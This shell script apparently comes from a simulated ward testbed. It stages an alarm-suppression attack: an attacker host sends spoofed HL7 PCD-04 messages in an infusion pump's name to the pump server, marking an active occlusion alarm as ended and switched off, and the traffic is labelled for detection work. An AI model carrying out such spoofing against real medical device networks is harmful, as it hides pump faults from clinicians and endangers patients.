# Alarm suppression: pump 1 reports an occlusion (IHE PCD-04 ORU^R40, priority high) from 6 s on,
# with every report while it lasts; the attacker, in pump 1's name, tells the pump server (the
# alert manager) that the alarm ended and is switched off (phase end, state inactive,
# inactivation alarm-off), while the pump keeps reporting it.
DEFAULT_DURATION=30
attack_alarm_suppression() {
  local t0 t1
  t0=$(now)
  run_in attacker hl7-send 20 "$WARD_SIM" hl7-send --to 10.10.1.5:2575 --type pcd04 --pump PUMP0021 \
    --control PUMP0021-AL9001 --alarm-phase end --alarm-state inactive --alarm-inactivation alarm-off \
    --count 2 --interval 1 || return 1
  t1=$(now)
  label alarm_suppression T0878 attacker pumpsrv "$t0" "$t1" \
    "2 PCD-04 ORU^R40 in PUMP0021's name from 10.10.9.66: occlusion alarm ended and switched off while the pump still reports it active"
}
scenario_run() {
  PUMP1_ARGS="--alarm-after 6"
  start_ward "$1"
  sleep 10
  attack_alarm_suppression
}
